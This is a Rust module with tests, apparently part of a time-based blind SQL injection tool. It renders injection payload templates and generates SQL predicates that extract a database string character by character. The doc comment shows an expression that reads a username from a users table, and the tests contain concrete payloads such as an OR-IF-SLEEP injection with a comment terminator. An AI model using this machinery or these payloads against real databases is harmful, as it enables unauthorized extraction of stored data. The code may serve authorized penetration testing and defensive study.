//! Payload templates and condition generation.
//!
//! The core never invents injection syntax. The caller supplies a payload
//! template with a `{condition}` placeholder and a [`ConditionSource`]
//! that phrases the boolean predicates the extractor needs; the core only
//! substitutes.

use std::time::Duration;

use crate::error::Error;

/// Placeholder for the boolean condition, required exactly once.
pub const CONDITION_PLACEHOLDER: &str = "{condition}";

/// Optional placeholder for the active delay in seconds.
pub const DELAY_PLACEHOLDER: &str = "{delay}";

/// A caller-supplied request payload template.
///
/// Must contain [`CONDITION_PLACEHOLDER`] exactly once; may contain
/// [`DELAY_PLACEHOLDER`], which is rendered with the delay in effect for
/// the probe (the calibrator sweeps it, the session pins it).
#[derive(Debug, Clone)]
pub struct PayloadTemplate {
    template: String,
}

impl PayloadTemplate {
    /// Validate and wrap a template string.
    pub fn new(template: impl Into<String>) -> Result<Self, Error> {
        let template = template.into();
        let occurrences = template.matches(CONDITION_PLACEHOLDER).count();
        if occurrences != 1 {
            return Err(Error::InvalidTemplate {
                reason: format!(
                    "must contain {CONDITION_PLACEHOLDER} exactly once (found {occurrences})"
                ),
            });
        }
        Ok(Self { template })
    }

    /// Render the template with a condition and the active delay.
    pub fn render(&self, condition: &str, delay: Duration) -> String {
        self.template
            .replace(CONDITION_PLACEHOLDER, condition)
            .replace(DELAY_PLACEHOLDER, &format_seconds(delay))
    }
}

/// Render a delay as a plain seconds literal ("1.5", "0.3", "2").
fn format_seconds(delay: Duration) -> String {
    let secs = delay.as_secs_f64();
    if secs == secs.trunc() {
        format!("{}", secs as u64)
    } else {
        format!("{secs}")
    }
}

/// Phrases the boolean predicates the extractor asks of the target.
///
/// Implementations carry the condition-generation metadata (column,
/// table, where-clause semantics) supplied by the caller; the core only
/// ever requests these five predicate forms.
pub trait ConditionSource: Send + Sync {
    /// A condition that always holds (arms the delay).
    fn always_true(&self) -> String;

    /// A condition that never holds (no delay; baseline probes).
    fn always_false(&self) -> String;

    /// "The ordinal of the character at `position` is >= `boundary`."
    fn ordinal_ge(&self, position: usize, boundary: u32) -> String;

    /// "The ordinal of the character at `position` equals `value`."
    fn ordinal_eq(&self, position: usize, value: u32) -> String;

    /// "The string ends at or before `position`."
    fn is_terminator(&self, position: usize) -> String;
}

/// SQL predicate source built around a caller-supplied ordinal expression.
///
/// The expression must contain a `{position}` placeholder and evaluate,
/// server-side, to the ordinal of the character at that (1-indexed)
/// position, e.g. for SQLite:
/// `UNICODE(SUBSTR((SELECT username FROM users LIMIT 1), {position}, 1))`.
#[derive(Debug, Clone)]
pub struct SqlConditions {
    ordinal_expr: String,
}

impl SqlConditions {
    /// Placeholder for the 1-indexed character position.
    pub const POSITION_PLACEHOLDER: &'static str = "{position}";

    /// Wrap an ordinal expression template.
    pub fn new(ordinal_expr: impl Into<String>) -> Self {
        Self {
            ordinal_expr: ordinal_expr.into(),
        }
    }

    fn expr_at(&self, position: usize) -> String {
        // Core positions are 0-indexed; SQL substring positions are not.
        self.ordinal_expr
            .replace(Self::POSITION_PLACEHOLDER, &(position + 1).to_string())
    }
}

impl ConditionSource for SqlConditions {
    fn always_true(&self) -> String {
        "1=1".to_string()
    }

    fn always_false(&self) -> String {
        "1=0".to_string()
    }

    fn ordinal_ge(&self, position: usize, boundary: u32) -> String {
        format!("{} >= {boundary}", self.expr_at(position))
    }

    fn ordinal_eq(&self, position: usize, value: u32) -> String {
        format!("{} = {value}", self.expr_at(position))
    }

    fn is_terminator(&self, position: usize) -> String {
        // Past the end of the string the substring is empty/NULL.
        format!("COALESCE({}, 0) = 0", self.expr_at(position))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn template_requires_single_condition_placeholder() {
        assert!(PayloadTemplate::new("' OR ({condition}) -- -").is_ok());
        assert!(PayloadTemplate::new("no placeholder").is_err());
        assert!(PayloadTemplate::new("{condition} and {condition}").is_err());
    }

    #[test]
    fn render_substitutes_condition_and_delay() {
        let template =
            PayloadTemplate::new("' OR IF(({condition}),SLEEP({delay}),0) -- -").unwrap();
        let payload = template.render("1=1", Duration::from_millis(1500));
        assert_eq!(payload, "' OR IF((1=1),SLEEP(1.5),0) -- -");

        let payload = template.render("1=0", Duration::from_secs(2));
        assert_eq!(payload, "' OR IF((1=0),SLEEP(2),0) -- -");
    }

    #[test]
    fn delay_placeholder_is_optional() {
        let template = PayloadTemplate::new("x={condition}").unwrap();
        assert_eq!(template.render("1=1", Duration::from_secs(1)), "x=1=1");
    }

    #[test]
    fn sql_conditions_are_one_indexed() {
        let source = SqlConditions::new("UNICODE(SUBSTR(secret, {position}, 1))");
        assert_eq!(
            source.ordinal_ge(0, 64),
            "UNICODE(SUBSTR(secret, 1, 1)) >= 64"
        );
        assert_eq!(
            source.ordinal_eq(2, 97),
            "UNICODE(SUBSTR(secret, 3, 1)) = 97"
        );
        assert_eq!(
            source.is_terminator(5),
            "COALESCE(UNICODE(SUBSTR(secret, 6, 1)), 0) = 0"
        );
        assert_eq!(source.always_false(), "1=0");
    }
}
